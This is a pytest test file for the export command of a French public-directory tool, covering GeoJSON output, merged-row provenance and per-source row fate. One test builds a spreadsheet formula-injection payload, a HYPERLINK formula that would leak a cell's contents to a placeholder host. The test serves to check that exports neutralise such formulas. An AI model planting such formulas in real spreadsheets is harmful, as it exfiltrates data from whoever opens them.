"""`annuaire export`: the merged directory as printed, and each source's rows with their fate."""

import csv
import json
from pathlib import Path

import geojson
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from annuaire.cli import main

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "sample_data"
RIOM = SAMPLE / "mairie_riom_saisie.xlsx"


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


@pytest.fixture(scope="module")
def sante_geojson(tmp_path_factory):
    out = tmp_path_factory.mktemp("export") / "sante.geojson"
    report = out.with_suffix(".json")
    result = run("export", SAMPLE, "--theme", "sante", "-o", out, "--report", report)
    assert result.exit_code == 0, result.output
    return json.loads(out.read_text(encoding="utf-8")), json.loads(report.read_text(encoding="utf-8"))


def test_geojson_is_valid_and_holds_every_printed_entry(sante_geojson):
    doc, report = sante_geojson
    parsed = geojson.loads(json.dumps(doc))
    assert parsed.is_valid, parsed.errors()
    assert len(doc["features"]) == report["printed"]
    assert report["rows_read"] == (
        report["printed"]
        + report["rejected"]
        + report["duplicates"]
        + report["out_of_scope"]
        + report.get("withdrawn", 0)
    )
    located = [f for f in doc["features"] if f["geometry"]]
    assert located, "the FINESS rows carry coordinates"
    for f in located:
        lon, lat = f["geometry"]["coordinates"]
        assert 1.5 < lon < 4.6 and 44.5 < lat < 46.9  # Auvergne, longitude first (RFC 7946)
    assert {f["properties"]["Thème"] for f in doc["features"]} == {"Action sociale et santé"}
    assert all(f["properties"]["Code typologie"].startswith("SA") for f in doc["features"])


def test_merged_entry_lists_its_rows_sources_and_field_origins(sante_geojson):
    doc, report = sante_geojson
    assert report["merges"], "the sample data has duplicates across files"
    merged = [f["properties"] for f in doc["features"] if " ; " in (f["properties"]["Lignes d'origine"] or "")]
    assert merged
    props = merged[0]
    assert props["Sources"] and props["Origine des champs"]
    assert any(label in props["Origine des champs"] for label in ("adresse", "téléphone", "code postal"))


def test_xlsx_and_csv_write_text_never_formulas(tmp_path):
    sheet = tmp_path / "mairie.csv"
    sheet.write_text(
        "Nom;Typologie;Code postal;Commune;Description\n"
        '=HYPERLINK("http://x.example/?leak="&A2,"Cliquez");Mairie;15300;Murat;+33 pas une formule\n'
        "Mairie de Dienne;Mairie;15300;Dienne;@SUM(A1)\n",
        encoding="utf-8",
    )
    xlsx, csv_out = tmp_path / "a.xlsx", tmp_path / "a.csv"
    assert run("export", sheet, "-o", xlsx).exit_code == 0
    assert run("export", sheet, "-o", csv_out).exit_code == 0
    ws = load_workbook(xlsx).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    names = [ws.cell(row=r, column=2).value for r in range(2, ws.max_row + 1)]
    assert any(n.startswith("=HYPERLINK") for n in names)  # kept, as text
    rows = list(csv.reader(csv_out.read_text(encoding="cp1252").splitlines(), delimiter=";"))
    risky = [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@")]
    assert risky == []
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)


def test_par_source_says_what_became_of_every_row(tmp_path):
    out = tmp_path / "riom.xlsx"
    report = tmp_path / "riom.json"
    result = run("export", RIOM, SAMPLE / "sante_auvergne.xlsx", "-o", out, "--par-source", "--report", report)
    assert result.exit_code == 0, result.output
    counts = json.loads(report.read_text(encoding="utf-8"))
    ws = load_workbook(out).active
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, (c.value for c in r))) for r in ws.iter_rows(min_row=2)]
    assert len(rows) == counts["rows_read"]
    assert len({(r["Fichier"], r["Feuille"], r["Ligne"]) for r in rows}) == len(rows)  # each row once
    status = {}
    for r in rows:
        status[r["Devenir"]] = status.get(r["Devenir"], 0) + 1
    assert status.get("rejetée", 0) == counts["rejected"]
    assert status.get("fusionnée", 0) == counts["duplicates"]
    assert status.get("imprimée", 0) == counts["printed"]
    rejected = [r for r in rows if r["Devenir"] == "rejetée"]
    assert all(r["Messages"] and "Erreur" in r["Messages"] for r in rejected)
    merged = [r for r in rows if r["Devenir"] == "fusionnée"]
    assert all(r["Entrée imprimée"] for r in merged)


def test_unknown_extension_is_refused_in_french(tmp_path):
    result = run("export", RIOM, "-o", tmp_path / "x.pdf")
    assert result.exit_code == 2
    assert "extension inconnue" in result.output
